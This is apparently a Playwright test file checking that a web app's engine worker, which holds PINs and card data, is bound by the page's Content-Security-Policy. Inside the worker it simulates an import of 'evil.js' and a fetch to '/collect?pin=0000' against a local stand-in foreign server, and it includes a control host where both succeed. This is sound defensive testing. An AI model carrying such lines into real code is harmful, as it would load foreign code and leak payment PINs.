import { createServer, type Server } from 'node:http';
import { test, expect, type Browser } from '@playwright/test';
import { serveBuiltSite } from './support/staticSite';

/**
 * The engine worker holds the PINs and every byte of card data, so it must be under the same
 * Content-Security-Policy as the page (issue 12 §4). A `<meta>` policy binds only the page; the
 * worker gets one only from its own response's header. Checked for both ways we serve the build:
 * `vite preview` (the journeys' server) and a static host applying `dist/_headers`; and, as a
 * control, a host that ignores `_headers`, where the same attempts succeed — so the test can tell.
 */
const PORT = Number(process.env.E2E_PORT ?? 4173);
/** Another loopback origin, inside this run's port range: the "outside" a worker must not reach. */
const FOREIGN_PORT = PORT + 60;
/** A static host of dist/ (with and without `_headers`), inside this run's port range. */
const STATIC_PORT = PORT + 61;

/** A foreign origin that would gladly answer (CORS open), counting every request that reaches it. */
async function foreignOrigin(): Promise<{ origin: string; hits: string[]; close(): Promise<void> }> {
  const hits: string[] = [];
  const server: Server = createServer((request, response) => {
    hits.push(request.url ?? '');
    const isModule = request.url?.endsWith('.js');
    response.writeHead(200, { 'content-type': isModule ? 'text/javascript' : 'text/plain', 'access-control-allow-origin': '*' });
    response.end(isModule ? 'export const loaded = "foreign module ran";' : 'foreign data');
  });
  await new Promise<void>((resolve) => server.listen(FOREIGN_PORT, '127.0.0.1', resolve));
  return { origin: `http://127.0.0.1:${FOREIGN_PORT}`, hits, close: () => new Promise((resolve) => server.close(() => resolve())) };
}

/** Opens the app, waits for its engine worker and tries an off-origin import() and fetch from inside it. */
async function tryFromEngineWorker(browser: Browser, appOrigin: string, foreign: string) {
  const context = await browser.newContext();
  try {
    const page = await context.newPage();
    const workerStarted = page.waitForEvent('worker');
    await page.goto(`${appOrigin}/`);
    const worker = await workerStarted;
    expect(new URL(worker.url()).pathname).toMatch(/^\/assets\/engine\.worker-[\w-]+\.js$/);
    return await worker.evaluate(async (outside) => {
      const outcome = (promise: Promise<string>) => promise.then((value) => `ran: ${value}`, (error: Error) => `refused: ${error.name}`);
      return {
        importModule: await outcome(import(/* @vite-ignore */ `${outside}/evil.js`).then((m: { loaded: string }) => m.loaded)),
        fetchData: await outcome(fetch(`${outside}/collect?pin=0000`).then((r) => r.text())),
      };
    }, foreign);
  } finally {
    await context.close();
  }
}

test.describe('the engine worker is under the page policy', () => {
  test('vite preview: an off-origin import() and fetch from inside the worker are both refused', async ({ browser, baseURL }) => {
    const foreign = await foreignOrigin();
    try {
      const outcome = await tryFromEngineWorker(browser, new URL(baseURL!).origin, foreign.origin);
      expect(outcome.importModule).toMatch(/^refused: /);
      expect(outcome.fetchData).toMatch(/^refused: /);
      expect(foreign.hits).toEqual([]);
    } finally {
      await foreign.close();
    }
  });

  test('a static host applying dist/_headers refuses them too; one ignoring it lets both through (the control)', async ({ browser }) => {
    const foreign = await foreignOrigin();
    try {
      const withHeaders = await serveBuiltSite('dist', { listenPort: STATIC_PORT });
      try {
        const outcome = await tryFromEngineWorker(browser, withHeaders.origin, foreign.origin);
        expect(outcome).toEqual({ importModule: expect.stringMatching(/^refused: /), fetchData: expect.stringMatching(/^refused: /) });
        expect(foreign.hits).toEqual([]);
      } finally {
        await withHeaders.close();
      }
      const metaOnly = await serveBuiltSite('dist', { headersFile: false, listenPort: STATIC_PORT });
      try {
        const outcome = await tryFromEngineWorker(browser, metaOnly.origin, foreign.origin);
        expect(outcome).toEqual({ importModule: 'ran: foreign module ran', fetchData: 'ran: foreign data' });
        expect(foreign.hits).toEqual(['/evil.js', '/collect?pin=0000']);
      } finally {
        await metaOnly.close();
      }
    } finally {
      await foreign.close();
    }
  });
});
